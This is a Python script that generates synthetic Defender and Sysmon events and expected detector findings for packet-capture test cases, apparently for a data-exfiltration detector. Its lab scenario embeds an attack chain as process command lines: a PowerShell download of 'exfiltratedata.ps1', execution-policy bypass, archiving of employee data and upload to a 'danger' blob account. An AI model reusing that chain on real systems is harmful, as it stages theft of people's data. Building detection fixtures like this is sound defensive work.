#!/usr/bin/env python3
"""Writes the endpoint events and the expected findings of the bundled captures.

Connects are taken from the captures (tshark), so ports and times are those of the real clients; who they belong to is the scenario's story.
Bytes are counted by tshark's view of sequence numbers, independently of leaktap. Usage: events.py CAPTURES EVENTS EXPECTED"""
import datetime
import json
import pathlib
import subprocess
import sys

FIELDS = "frame.time_epoch ip.src ip.dst tcp.srcport tcp.dstport tcp.stream tcp.len tcp.seq_raw tcp.ack_raw tcp.flags.syn tcp.flags.ack tcp.flags.fin".split()
UTC = datetime.timezone.utc


def tcp_flows(path):
    """One dict per TCP connection: start, addresses, acknowledged payload each way by the far end's highest ACK."""
    cmd = ["tshark", "-r", str(path), "-o", "tcp.relative_sequence_numbers:FALSE", "-Y", "tcp", "-T", "fields"]
    for f in FIELDS:
        cmd += ["-e", f]
    flows = {}
    for line in subprocess.run(cmd, capture_output=True, text=True, check=True).stdout.splitlines():
        v = dict(zip(FIELDS, line.split("\t")))
        f = flows.setdefault(v["tcp.stream"], {"start": float(v["frame.time_epoch"]), "src": v["ip.src"], "sport": int(v["tcp.srcport"]),
                                               "dst": v["ip.dst"], "dport": int(v["tcp.dstport"]), "isn": [None, None], "ack": [0, 0], "fin": [None, None]})
        d = 0 if v["ip.src"] == f["src"] and int(v["tcp.srcport"]) == f["sport"] else 1
        seq, n = int(v["tcp.seq_raw"]), int(v["tcp.len"])
        true = ("1", "True")
        if v["tcp.flags.syn"] in true:
            f["isn"][d] = seq
        if v["tcp.flags.fin"] in true:
            f["fin"][d] = (seq + n - f["isn"][d] - 1) & 0xffffffff
        if v["tcp.flags.ack"] in true and f["isn"][1 - d] is not None:
            r = (int(v["tcp.ack_raw"]) - f["isn"][1 - d] - 1) & 0xffffffff
            if r < 1 << 31:
                f["ack"][1 - d] = max(f["ack"][1 - d], r)
    for f in flows.values():
        for d in (0, 1):
            if f["fin"][d] is not None and f["ack"][d] > f["fin"][d]:
                f["ack"][d] -= 1
    return list(flows.values())


def iso(t, digits=7):
    whole = datetime.datetime.fromtimestamp(int(t), UTC).strftime("%Y-%m-%dT%H:%M:%S")
    return f"{whole}.{round((t % 1) * 10**digits):0{digits}d}Z"


def sysmon_time(t):
    return iso(t, 3).replace("T", " ").rstrip("Z")


class Defender:
    """Rows as Event Hubs streams them: one envelope a line."""

    def __init__(self, device, offset_s):
        self.device, self.offset, self.rows, self.n = device, offset_s, [], 0

    def row(self, table, t, **columns):
        self.n += 1
        stamp = iso(t + self.offset)
        p = {"Timestamp": stamp, "DeviceId": f"{hash_of(self.device)}", "DeviceName": self.device, "ReportId": 1000 + self.n}
        p.update(columns)
        self.rows.append({"time": iso(t + 190), "tenantId": "00000000-1111-2222-3333-444444444444", "operationName": "Publish",
                          "category": f"AdvancedHunting-{table}", "properties": p, "Tenant": "DefaultTenant", "_TimeReceivedBySvc": iso(t + 61)})

    def initiator(self, proc, t0):
        return {"InitiatingProcessFileName": proc["name"], "InitiatingProcessId": proc["pid"], "InitiatingProcessFolderPath": proc["path"].lower(),
                "InitiatingProcessCommandLine": proc["cmd"], "InitiatingProcessCreationTime": iso(t0 + self.offset + proc["start"]),
                "InitiatingProcessAccountName": proc["user"], "InitiatingProcessAccountDomain": "corp",
                "InitiatingProcessParentFileName": proc["parent"], "InitiatingProcessParentId": proc["ppid"],
                "InitiatingProcessVersionInfoOriginalFileName": proc["original"], "InitiatingProcessSHA256": ""}

    def connect(self, flow, proc, t0, name, lag):
        self.row("DeviceNetworkEvents", flow["start"] + lag, ActionType="ConnectionSuccess", RemoteIP=flow["dst"], RemotePort=flow["dport"],
                 RemoteUrl=name, LocalIP=flow["src"], LocalPort=flow["sport"], Protocol="Tcp", LocalIPType="Private", RemoteIPType="Public",
                 AdditionalFields=None, **self.initiator(proc, t0))

    def process(self, proc, parent, t, t0):
        self.row("DeviceProcessEvents", t, ActionType="ProcessCreated", FileName=proc["name"], FolderPath=proc["path"], ProcessId=proc["pid"],
                 ProcessCommandLine=proc["cmd"], ProcessCreationTime=iso(t + self.offset), AccountName=proc["user"], AccountDomain="corp",
                 ProcessVersionInfoOriginalFileName=proc["original"], AdditionalFields="", **self.initiator(parent, t0))

    def file(self, proc, path, t, t0, size):
        folder, _, name = path.rpartition("\\")
        self.row("DeviceFileEvents", t, ActionType="FileCreated", FileName=name, FolderPath=path, FileSize=size, AdditionalFields="",
                 **self.initiator(proc, t0))


class Sysmon:
    """Flat rows as a shipper writes them; network events carry the other clock of the same log."""

    def __init__(self, device, offset_s, network_offset_s):
        self.device, self.offset, self.network, self.rows, self.n = device, offset_s, network_offset_s, [], 5000

    def row(self, event_id, t, offset, **data):
        self.n += 1
        r = {"EventID": event_id, "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon", "Hostname": self.device,
             "RecordNumber": self.n, "TimeCreated": iso(t + self.offset + 0.9, 3), "UtcTime": sysmon_time(t + offset)}
        r.update(data)
        self.rows.append(r)

    def guid(self, proc):
        return "{5a1c2b3d-0000-%04x-0000-0010%08x}" % (proc["pid"], proc["pid"] * 7919)

    def connect(self, flow, proc, t0, name, lag):
        self.row(3, flow["start"] + lag, self.network, ProcessGuid=self.guid(proc), ProcessId=str(proc["pid"]), Image=proc["path"],
                 User=f"CORP\\{proc['user']}", Protocol="tcp", Initiated="true", SourceIsIpv6="false", SourceIp=flow["src"],
                 SourceHostname=self.device, SourcePort=str(flow["sport"]), SourcePortName="-", DestinationIsIpv6="false",
                 DestinationIp=flow["dst"], DestinationHostname="-", DestinationPort=str(flow["dport"]), DestinationPortName="https")

    def process(self, proc, parent, t, t0):
        self.row(1, t, self.offset, ProcessGuid=self.guid(proc), ProcessId=str(proc["pid"]), Image=proc["path"], OriginalFileName=proc["original"],
                 CommandLine=proc["cmd"], User=f"CORP\\{proc['user']}", Hashes="SHA256=" + hash_of(proc["path"]) + hash_of(proc["path"])[:24],
                 ParentProcessGuid=self.guid(parent), ParentProcessId=str(parent["pid"]), ParentImage=parent["path"], ParentCommandLine=parent["cmd"])

    def file(self, proc, path, t, t0, size):
        self.row(11, t, self.offset, ProcessGuid=self.guid(proc), ProcessId=str(proc["pid"]), Image=proc["path"], User=f"CORP\\{proc['user']}",
                 TargetFilename=path, CreationUtcTime=sysmon_time(t + self.offset))


def hash_of(text):
    import hashlib
    return hashlib.sha1(text.encode()).hexdigest()


def proc(name, pid, path, cmd, user="employee", parent="explorer.exe", ppid=2204, start=-60.0, original=None):
    return {"name": name, "pid": pid, "path": path, "cmd": cmd, "user": user, "parent": parent, "ppid": ppid, "start": start, "original": original or name}


PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def lab(flows, log):
    """Script fetch by one PowerShell; installer download, archive and upload by another."""
    fetch, installer, upload = flows
    t0 = fetch["start"]
    cmd_exe = proc("cmd.exe", 3312, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c exfil.bat", start=-30.0)
    ps1 = proc("powershell.exe", 4102, PS, "powershell.exe -Command Invoke-WebRequest https://raw.githubusercontent.com/lab/exfiltratedata.ps1",
               parent="cmd.exe", ppid=3312, start=-0.8, original="PowerShell.EXE")
    ps2 = proc("powershell.exe", 4188, PS, "powershell.exe -ExecutionPolicy Bypass -File C:\\programdata\\exfiltratedata.ps1",
               parent="cmd.exe", ppid=3312, start=installer["start"] - t0 - 0.9, original="PowerShell.EXE")
    setup = proc("7z2408-x64.exe", 5120, "C:\\programdata\\7z2408-x64.exe", "7z2408-x64.exe /S", parent="powershell.exe", ppid=4188, start=0)
    zipper = proc("7z.exe", 5344, "C:\\Program Files\\7-Zip\\7z.exe",
                  "7z.exe a C:\\programdata\\employee-data-20260302091420.zip C:\\programdata\\employee-data.csv", parent="powershell.exe", ppid=4188,
                  start=upload["start"] - t0 - 1.9)
    log.process(ps1, cmd_exe, t0 - 0.8, t0)
    log.connect(fetch, ps1, t0, "raw.githubusercontent.com", 0.0211)
    log.process(ps2, cmd_exe, installer["start"] - 0.9, t0)
    log.connect(installer, ps2, t0, "sacyberrange00.blob.core.windows.net", 0.0204)
    log.process(setup, ps2, installer["start"] + 1.4, t0)
    log.process(zipper, ps2, upload["start"] - 1.9, t0)
    log.file(zipper, "C:\\ProgramData\\employee-data-20260302091420.zip", upload["start"] - 1.5, t0, 1300)
    log.connect(upload, ps2, t0, "sacyberrangedanger.blob.core.windows.net", 0.0219)
    expected_flows = [
        flow(fetch, "raw.githubusercontent.com", "download", "powershell.exe", 4102),
        flow(installer, "sacyberrange00.blob.core.windows.net", "download", "powershell.exe", 4188, "azure_blob", "sacyberrange00", "upload"),
        flow(upload, "sacyberrangedanger.blob.core.windows.net", "upload", "powershell.exe", 4188, "azure_blob", "sacyberrangedanger", "upload"),
    ]
    finding = {"rules": [1003, 1002], "severity": 1, "process": "powershell.exe", "pid": 4188, "service": "azure_blob", "account": "sacyberrangedanger",
               "bytes_up": upload["ack"][0], "techniques": ["T1560.001", "T1567.002"], "device": log.device.lower()}
    return {"findings": [finding], "flows": expected_flows}


def flow(f, name, direction, process=None, pid=None, service=None, account=None, role=None, source="tls_sni", catalogue=None):
    row = {"src_ip": f["src"], "src_port": f["sport"], "dest_ip": f["dst"], "bytes_up": f["ack"][0], "bytes_down": f["ack"][1],
           "name": name, "name_source": source, "direction": direction, "process": process, "pid": pid, "service": service,
           "account": account, "role": role, "catalogue": catalogue}
    return {k: v for k, v in row.items() if v is not None}


def single(flows, log, name, process, expect, findings=()):
    f = flows[0]
    log.process(process, proc("explorer.exe", 2204, "C:\\Windows\\explorer.exe", "explorer.exe", start=-4000), f["start"] + process["start"], f["start"])
    log.connect(f, process, f["start"], name, 0.034)
    return {"findings": [dict(x, bytes_up=f["ack"][0], device=log.device.lower()) for x in findings], "flows": [expect(f)]}


def build(captures):
    def path(case):
        return captures / f"{case}.pcapng.zst"

    def plain(case):
        out = pathlib.Path("/tmp") / f"leaktap-{case}.pcapng"
        subprocess.run(["zstd", "-q", "-d", "-f", str(path(case)), "-o", str(out)], check=True)
        flows = tcp_flows(out)
        out.unlink()
        return flows

    yield "lab_tls12", lab, plain, Defender("ws-0417.corp.example", 0.367)
    yield "lab_tls13", lab, plain, Sysmon("WS-0418.corp.example", 0.011, -0.612)
    ps = proc("powershell.exe", 6612, PS, "powershell.exe -NoProfile -File sync.ps1", start=-5, original="PowerShell.EXE")
    yield ("dropbox_put_50mb", lambda fl, log: single(fl, log, "content.dropboxapi.com", ps, lambda f: flow(
        f, "content.dropboxapi.com", "upload", "powershell.exe", 6612, "dropbox", None, "upload"),
        [{"rules": [1002, 1001], "severity": 2, "process": "powershell.exe", "pid": 6612, "service": "dropbox"}]), plain, Defender("ws-0424", -0.120))
    box = proc("Dropbox.exe", 7340, "C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe", "Dropbox.exe /systemstartup", start=-3600)
    yield ("dropbox_telemetry", lambda fl, log: single(fl, log, "t8.dropbox.com", box, lambda f: flow(
        f, "t8.dropbox.com", "upload", "Dropbox.exe", 7340, None, None, "telemetry", catalogue="t8.dropbox.com")), plain, Defender("ws-0421", 0.05))
    wer = proc("WerFault.exe", 8128, "C:\\Windows\\System32\\WerFault.exe", "WerFault.exe -u -p 4711 -s 2008", user="SYSTEM", start=-2)
    yield ("werfault", lambda fl, log: single(fl, log, "ceuswatcab01.blob.core.windows.net", wer, lambda f: flow(
        f, "ceuswatcab01.blob.core.windows.net", "upload", "WerFault.exe", 8128, None, None, "telemetry")), plain, Sysmon("WS-0422.corp.example", 0.0, 0.25))
    diag = proc("svchost.exe", 2760, "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k utcsvc -p -s DiagTrack", user="SYSTEM", start=-9000)
    yield ("ms_telemetry", lambda fl, log: single(fl, log, "browser.events.data.microsoft.com", diag, lambda f: flow(
        f, "browser.events.data.microsoft.com", "upload", "svchost.exe", 2760, None, None, "telemetry")), plain, Defender("ws-0423", 0.02))
    edge = proc("msedge.exe", 9008, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe --single-argument", start=-900)
    yield ("dns_named", lambda fl, log: single(fl, log, "", edge, lambda f: flow(
        f, "stlabbackup.blob.core.windows.net", "upload", "msedge.exe", 9008, "azure_blob", "stlabbackup", "upload", source="dns_answer")),
        plain, Defender("ws-0425", 0.0))
    chrome = proc("chrome.exe", 9416, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", start=-300)
    if path("ech_outer").exists():
        def ech(flows, log):
            front = [f for f in flows if f["dst"] == "104.18.10.118"]
            out = single(front, log, "", chrome, lambda f: flow(f, "cloudflare-ech.com", None, source="ech_outer"))
            resolver = next(f for f in flows if f["dst"] == "10.20.0.54")
            out["flows"].append(flow(resolver, "doh.lab.test", None))  # its hello has the extension too, filled with GREASE
            return out
        yield "ech_outer", ech, plain, Defender("ws-0426", 0.0)


def main():
    captures, events, expected = (pathlib.Path(p) for p in sys.argv[1:4])
    for case, story, plain, log in build(captures):
        result = story(plain(case), log)
        (events / f"{case}.ndjson").write_text("".join(json.dumps(r, separators=(",", ":")) + "\n" for r in log.rows))
        (expected / f"{case}.json").write_text(json.dumps(result, indent=1) + "\n")
        print(f"{case}: {len(log.rows)} events, {len(result['findings'])} findings expected, {len(result['flows'])} flows described")


main()
